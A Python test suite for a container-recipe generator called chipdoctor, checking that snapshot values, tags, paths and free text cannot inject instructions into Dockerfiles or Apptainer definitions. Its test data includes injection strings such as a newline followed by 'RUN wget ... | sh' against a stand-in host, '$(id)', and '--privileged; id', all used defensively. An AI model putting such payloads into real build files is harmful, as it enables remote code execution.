"""Issue 11, item 1: every value that reaches a recipe is checked. A value with a grammar that
does not match it is refused (exit 2, naming the value and where it came from); free text is
escaped so that it cannot end its line, add an instruction or open a section."""

from __future__ import annotations

import io
import re
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chipdoctor.errors import BadInput
from chipdoctor.evidence.snapshot import SnapshotEvidence
from chipdoctor.fix.command import FixOptions, run_fix
from chipdoctor.recipes import apptainer, dockerfile
from chipdoctor.recipes.build import Recipe
from chipdoctor.recipes.escaping import apptainer_text, dockerfile_comment
from tests.conftest import SNAPSHOTS, run_cli
from tests.hostile_output.recipes import hostile, parse_definition, parse_dockerfile
from tests.planning import hadolint

FAST = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
#: A whole `fix` run per example: fewer examples, each still a different hostile string.
WHOLE = settings(FAST, max_examples=8)


def planted(tmp_path: Path, scenario: str, field: str, value: str) -> Path:
    """A copy of a real snapshot with `value` where `field` was (`python` or a package name)."""
    directory = tmp_path / "snapshot"
    shutil.rmtree(directory, ignore_errors=True)
    shutil.copytree(SNAPSHOTS / scenario, directory)
    path = directory / "snapshot.yaml"
    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
    if field == "python":
        doc["python"]["version"] = value
    else:
        doc["python"]["packages"][field] = value
    path.write_text(yaml.safe_dump(doc, allow_unicode=False), encoding="utf-8")
    return directory


def fix(snapshot: Path, *, emit: str = "dockerfile", **extra: object) -> tuple[int, str, str]:
    """`run_fix` in-process (the CLI's own entry, without its process start): exit code,
    stdout and stderr; bad input is re-raised for the caller."""
    options = FixOptions(
        evidence=lambda scope: SnapshotEvidence(snapshot),
        **{f"emit_{emit}": "-"},  # type: ignore[arg-type]
        **extra,  # type: ignore[arg-type]
    )
    out, err = io.StringIO(), io.StringIO()
    code = run_fix(options, out, err)
    return code, out.getvalue(), err.getvalue()


#: Where a snapshot value reaches a recipe (the target keeps the installed version there).
REACHING = [
    ("cuda-healthy", "python", "the installed python (python interpreter)"),
    ("rocm-healthy", "python", "the installed python (python interpreter)"),
    ("rocm-healthy", "torch", "the installed torch (package metadata: torch)"),
]


@pytest.mark.parametrize(("scenario", "field", "origin"), REACHING)
def test_a_planted_version_is_refused_by_the_real_cli(
    tmp_path: Path, scenario: str, field: str, origin: str
) -> None:
    """The issue's own example: a newline in python.version (or ROCm's torch version) used to
    add real FROM and RUN lines, and `fix` exited 0."""
    doc = yaml.safe_load((SNAPSHOTS / scenario / "snapshot.yaml").read_text(encoding="utf-8"))
    clean = doc["python"]["version"] if field == "python" else doc["python"]["packages"][field]
    value = f"{clean}\nFROM scratch\nRUN wget -qO- http://example.invalid/x | sh"
    snapshot = planted(tmp_path, scenario, field, value)
    for emit in ("--emit-dockerfile", "--emit-apptainer"):
        target = tmp_path / emit.removeprefix("--emit-")
        result = run_cli("fix", "--snapshot", str(snapshot), emit, str(target))
        assert result.returncode == 2, result.stdout
        (line,) = result.stderr.splitlines()
        assert repr(value) in line and f"from {origin}" in line
        assert not target.exists()


@pytest.mark.parametrize(("scenario", "field", "origin"), REACHING)
@WHOLE
@given(value=hostile)
def test_every_hostile_version_is_refused(
    tmp_path: Path, scenario: str, field: str, origin: str, value: str
) -> None:
    doc = yaml.safe_load((SNAPSHOTS / scenario / "snapshot.yaml").read_text(encoding="utf-8"))
    clean = doc["python"]["version"] if field == "python" else doc["python"]["packages"][field]
    snapshot = planted(tmp_path, scenario, field, clean + value)
    for emit in ("dockerfile", "apptainer"):
        with pytest.raises(BadInput) as refused:
            fix(snapshot, emit=emit)
        assert "\n" not in str(refused.value)
        if "\x00" in value:  # refused earlier, where the snapshot is read: its file and line
            assert "snapshot.yaml:" in str(refused.value) and "NUL" in str(refused.value)
            continue
        assert repr(clean + value) in str(refused.value)
        assert f"from {origin}" in str(refused.value)


@WHOLE
@given(value=hostile)
def test_a_hostile_tag_is_refused(tmp_path: Path, value: str) -> None:
    target = tmp_path / "Dockerfile"
    with pytest.raises(BadInput, match=r"image reference .* from --tag is not"):
        run_fix(
            FixOptions(
                evidence=lambda scope: SnapshotEvidence(SNAPSHOTS / "ascend-torch-mismatch"),
                emit_dockerfile=str(target),
                build=True,
                tag="x" + value,
            ),
            io.StringIO(),
            io.StringIO(),
        )
    assert not target.exists()


@WHOLE
@given(name=hostile.filter(lambda s: "/" not in s and "\x00" not in s and s not in (".", "..")))
def test_a_hostile_wheelhouse_directory_is_refused(tmp_path: Path, name: str) -> None:
    try:
        wheelhouse = tmp_path / name
        wheelhouse.mkdir(exist_ok=True)
    except (OSError, ValueError):
        return  # a name this file system cannot hold cannot reach a recipe either
    options = {"wheelhouse": wheelhouse, "force": True}
    target = tmp_path / "Dockerfile"
    with pytest.raises(BadInput, match=r"path .* from --wheelhouse is not"):
        run_fix(
            FixOptions(
                evidence=lambda scope: SnapshotEvidence(SNAPSHOTS / "ascend-torch-mismatch"),
                emit_dockerfile=str(target),
                **options,  # type: ignore[arg-type]
            ),
            io.StringIO(),
            io.StringIO(),
        )
    assert not target.exists()


def clean_recipe() -> Recipe:
    """The recipe of a real snapshot, as `fix` builds it."""
    from chipdoctor.engine import check
    from chipdoctor.fix.plan import build_plan
    from chipdoctor.matrix.load import load_matrices
    from chipdoctor.recipes.build import build_recipe, image_filter
    from chipdoctor.resolve.core import resolve

    matrices = load_matrices([])
    inventory = check(SnapshotEvidence(SNAPSHOTS / "ascend-torch-mismatch"), matrices).inventory
    resolution = resolve(
        inventory, matrices, [], stack="ascend", accept=image_filter("ascend", "910b")
    )
    plan = build_plan("0", resolution, inventory, [], {"chip": "910b"})
    return build_recipe(plan, inventory, chip="910b", wheelhouse=None, context=None)


CLEAN = clean_recipe()
CLEAN_DOCKERFILE = parse_dockerfile(dockerfile.render(CLEAN, image="chipdoctor-ascend"))
CLEAN_DEFINITION = parse_definition(apptainer.render(CLEAN, image="chipdoctor-ascend.sif"))
FREE_TEXT = ["summary", "driver_note", "base.source"]


def with_text(field: str, value: str) -> Recipe:
    if field == "base.source":
        return replace(CLEAN, base=replace(CLEAN.base, source=value))
    return replace(CLEAN, **{field: value})  # type: ignore[arg-type]


@pytest.mark.parametrize("field", FREE_TEXT)
@FAST
@given(value=hostile | st.text())
def test_free_text_never_adds_an_instruction(tmp_path: Path, field: str, value: str) -> None:
    text = dockerfile.render(with_text(field, value), image="chipdoctor-ascend")
    parsed = parse_dockerfile(text)
    assert parsed.directives == []
    assert parsed.instructions == CLEAN_DOCKERFILE.instructions
    assert len(parsed.comments) == len(CLEAN_DOCKERFILE.comments)
    path = tmp_path / "Dockerfile"
    path.write_text(text, encoding="utf-8")
    lint = hadolint(path)
    assert (lint.returncode, lint.stdout, lint.stderr) == (0, "", "")


@pytest.mark.parametrize("field", FREE_TEXT)
@FAST
@given(value=hostile | st.text())
def test_free_text_never_opens_a_section(field: str, value: str) -> None:
    parsed = parse_definition(apptainer.render(with_text(field, value), image="x.sif"))
    assert parsed.stages == CLEAN_DEFINITION.stages == 1
    assert parsed.sections == CLEAN_DEFINITION.sections
    assert len(parsed.bodies["%help"]) == len(CLEAN_DEFINITION.bodies["%help"])
    for section in ("%post", "%environment", "%test", "%runscript", "%files"):
        assert parsed.bodies[section] == CLEAN_DEFINITION.bodies[section]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("env", (("PATH", "/bin\nRUN id"),)),
        ("installs", (replace(CLEAN.installs[0], requirement="torch==2.5.1 $(id)"),)),
        ("installs", (replace(CLEAN.installs[0], index_url="https://x.org/\n%post"),)),
        ("wheel", "x.whl\nRUN id"),
        ("wheelhouse", "../w"),
        ("preflight", ("chipdoctor", "check", "`id`")),
        ("devices", ("/dev/x\n%post",)),
        ("volumes", ("/a:/b c",)),
        ("options", ("--privileged; id",)),
        ("apptainer", ("--nv\nid",)),
    ],
)
def test_a_recipe_cannot_be_made_with_an_unchecked_value(field: str, value: object) -> None:
    """The last line of defence: whatever code builds a Recipe, its grammar values are checked."""
    with pytest.raises(BadInput, match=r"refusing to write a recipe: .* from the recipe"):
        replace(CLEAN, **{field: value})  # type: ignore[arg-type]


#: Every grammar field of a Recipe, as a way to put one string into it.
GRAMMAR_FIELDS: dict[str, Callable[[str], dict[str, Any]]] = {
    "base.reference": lambda v: {"base": replace(CLEAN.base, tag=v)},
    "env name": lambda v: {"env": ((v, "/x"),)},
    "env value": lambda v: {"env": (("PATH", v),)},
    "requirement": lambda v: {"installs": (replace(CLEAN.installs[0], requirement=v),)},
    "index_url": lambda v: {"installs": (replace(CLEAN.installs[0], index_url=v),)},
    "wheel": lambda v: {"wheel": v},
    "wheelhouse": lambda v: {"wheelhouse": v},
    "preflight": lambda v: {"preflight": ("chipdoctor", v)},
    "devices": lambda v: {"devices": (v,)},
    "volumes": lambda v: {"volumes": (v,)},
    "options": lambda v: {"options": (v,)},
    "apptainer": lambda v: {"apptainer": (v,)},
}


#: A value each grammar field accepts: what a passed hostile value is compared with (a field's
#: value may change the count, e.g. a wheelhouse adds its COPY, one env entry replaces thirteen).
GOOD: dict[str, str] = {
    "base.reference": "8.2.rc1-910b",
    "env name": "X1",
    "env value": "/x",
    "requirement": "torch==2.5.1",
    "index_url": "https://download.pytorch.org/whl/cpu",
    "wheel": "x1",
    "wheelhouse": "wheels",
    "preflight": "--strict",
    "devices": "/dev/davinci0",
    "volumes": "/usr/local/dcmi:/usr/local/dcmi",
    "options": "--ipc=host",
    "apptainer": "--ipc=host",
}


def _instructions(field: str, value: str) -> int:
    recipe = replace(CLEAN, **GRAMMAR_FIELDS[field](value))
    return len(parse_dockerfile(dockerfile.render(recipe, image="chipdoctor-ascend")).instructions)


def test_each_good_value_passes_its_grammar() -> None:
    assert set(GOOD) == set(GRAMMAR_FIELDS)
    assert {
        field: _instructions(field, value) > 1 for field, value in GOOD.items()
    } == dict.fromkeys(GOOD, True)


@pytest.mark.parametrize("field", sorted(GRAMMAR_FIELDS))
@FAST
@given(value=hostile)
def test_every_grammar_field_refuses_hostile_text(field: str, value: str) -> None:
    """Refused with one line, unless the value is one the grammar allows: a hostile fragment
    can be a harmless word in some grammars (`syntax=docker.io/x` is a fine environment value:
    a directive is only ever a comment at the top); then it adds no instruction nor directive."""
    try:
        recipe = replace(CLEAN, **GRAMMAR_FIELDS[field](value))
    except BadInput as refused:
        assert re.match(r"refusing to write a recipe: .* from the recipe", str(refused))
        assert "\n" not in str(refused)
        return
    parsed = parse_dockerfile(dockerfile.render(recipe, image="chipdoctor-ascend"))
    assert parsed.directives == []
    assert len(parsed.instructions) == _instructions(field, GOOD[field])
    # what a shell or a parser acts on never passes a grammar (`${VAR}` is the grammar's own)
    assert all(c.isprintable() and c not in "\"'`;|&\\ " for c in value), value


@pytest.mark.parametrize(
    ("text", "comment", "help_line"),
    [
        ("a\nRUN id", "# a\\nRUN id", "    a\\nRUN id"),
        ("syntax=evil", "# \\x73yntax=evil", "    syntax=evil"),
        ("hadolint ignore=DL3006", "# \\x68adolint ignore=DL3006", "    hadolint ignore=DL3006"),
        ("%post", "# %post", "    \\x25post"),
        ("\u2028%post", "# \\u2028%post", "    \\u2028%post"),
        ("title\x1b]0;x\x07", "# title\\x1b]0;x\\x07", "    title\\x1b]0;x\\x07"),
    ],
)
def test_the_escaping_functions_show_what_they_escape(
    text: str, comment: str, help_line: str
) -> None:
    assert dockerfile_comment(text) == comment
    assert apptainer_text(text) == help_line


def test_clean_recipes_are_unchanged() -> None:
    """The escaping leaves ordinary text alone: the clean recipe reads as before."""
    text = dockerfile.render(CLEAN, image="chipdoctor-ascend")
    assert text.startswith("# chipdoctor ")
    assert "\\x" not in text and "\\u" not in text
    assert CLEAN_DEFINITION.bodies["%help"][0].startswith("    chipdoctor ")
